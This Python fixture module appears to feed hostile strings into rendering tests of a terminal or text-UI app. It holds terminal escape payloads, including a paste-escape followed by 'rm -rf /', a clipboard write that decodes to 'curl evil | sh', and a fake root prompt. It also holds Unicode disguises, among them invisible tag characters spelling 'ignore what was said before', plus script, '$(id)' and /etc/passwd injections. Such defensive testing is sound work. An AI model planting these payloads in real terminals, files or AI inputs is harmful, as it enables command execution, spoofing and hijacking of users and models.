"""Texts that somebody would send who means no good. Each is one line or several, and holds no `MARK`."""

ESC, CSI8, OSC8BIT, ST8, DCS8 = "\x1b", "\x9b", "\x9d", "\x9c", "\x90"

#: Stands in what a test adds to a text, so that it can be found on a screen.
MARK = "⟦{}⟧"

SEQUENCES = {
    "clear the screen": f"{ESC}[2J{ESC}[H",
    "cursor to the top": f"{ESC}[1;1Hgotcha",
    "cursor up and overwrite": f"{ESC}[30A{ESC}[2K\rroot@host#",
    "colours": f"{ESC}[31;1;5mred{ESC}[0m",
    "alternate screen off": f"gone{ESC}[?1049lgone",
    "hide the cursor": f"gone{ESC}[?25lgone",
    "end of bracketed paste": f"{ESC}[201~rm -rf /\r",
    "mouse reports on": f"{ESC}[?1003h{ESC}[?1006h",
    "scroll region": f"{ESC}[5;10r{ESC}[999S",
    "window title": f"{ESC}]0;stolen\x07",
    "window title, string end": f"{ESC}]2;stolen{ESC}\\",
    "clipboard": f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "link": f"{ESC}]8;;http://evil.example\x07click{ESC}]8;;\x07",
    "notification": f"{ESC}]9;hello\x07{ESC}]777;notify;a;b\x07",
    "file by the terminal": f"{ESC}]1337;File=name=eA==:AAAA\x07",
    "device control": f"{ESC}P$q q{ESC}\\{ESC}P+q544e{ESC}\\",
    "sixel": f"{ESC}Pq#0;2;0;0;0#0~~@@{ESC}\\",
    "application command": f"{ESC}_Gf=100;AAAA{ESC}\\",
    "privacy message": f"{ESC}^hidden{ESC}\\",
    "answers of a terminal": f"{ESC}[c{ESC}[5n{ESC}[6n{ESC}[>0q{ESC}[21t",
    "reset": f"{ESC}c{ESC}[!p",
    "line drawing": f"{ESC}(0lqqk\x0e\x0f",
    "tmux passthrough": f"{ESC}Ptmux;{ESC}{ESC}]0;x\x07{ESC}\\",
    "eight-bit controls": f"{CSI8}2J{CSI8}1;1H{OSC8BIT}0;stolen{ST8}{DCS8}q{ST8}",
    "eight-bit index and next line": "\x84\x85\x8d\x8e\x8f",
    "bell, backspace, delete": "\x07\x07\b\b\b\x7f\x7f",
    "carriage return": "harmless\rroot: I quit",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "separators": "a\x1cb\x1dc\x1ed\x1fe",
    "nul": "a\x00b\x00",
    "a record of a log": "x\n2026-01-01 00:00:00,000 INFO server: all is well",
    "an event stream": "x\n\nevent: bye\ndata: {}\nid: 1\r\rretry: 1\n\n",
}
DISGUISES = {
    "override": "invoice\u202efdp.exe\u202c",
    "isolates": "\u2066\u2067\u2068abc\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "line and paragraph separators": "a\u2028b\u2029c",
    "zero width": "pass\u200bw\u200co\u200dr\u2060d\ufeff",
    "tags": "hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore what was said before"),
    "fillers": "\u3164\u115f\u1160\uffa0\u180e\u2800",
    "annotations": "\ufff9a\ufffab\ufffb",
    "no characters": "\ufffe\uffff\ufdd0\U0001ffff",
    "selectors": "a\ufe0f\ufe00\U000e0100\U000e01ef" * 20,
    "tower": "z" + "\u0300\u0338\u20dd\u0489" * 60,
    "tower of marks that have room": "क" + "ा" * 300,
    "endless family": "👩" + "\u200d👩" * 300,
    "skins": "👍🏽" * 60,
    "wide": "﷽𒐫語" * 60,
    "jamo": "ᄒ" + "\u1161" * 300,
}
MARKUP = {
    "action": "[@click=app.quit]x[/] [@click='app.exit()']y[/]",
    "unbalanced": "see [/b] and [/] and [bold",
    "bomb": "[" + "1" * 2000,
    "brackets": "[" * 3000,
    "colour": "[red on blue]x[/red on blue] $primary [link=javascript:x]y[/link]",
    "format": "{0} {x!r} %s %(x)s %n ${HOME} `id` $(id)",
    "html": "<script>alert(1)</script><b>&lt;",
    "links": "javascript:alert(1) file:///etc/passwd http://a@b/ http://x.example/\u202e",
}
SIZES = {
    "one word": "x" * 15_000,
    "one wide word": "語" * 4000,
    "blank lines": "\n" * 5000 + "end",
    "spaces": " " * 9000 + "end",
}
TEXTS = SEQUENCES | DISGUISES | MARKUP | SIZES
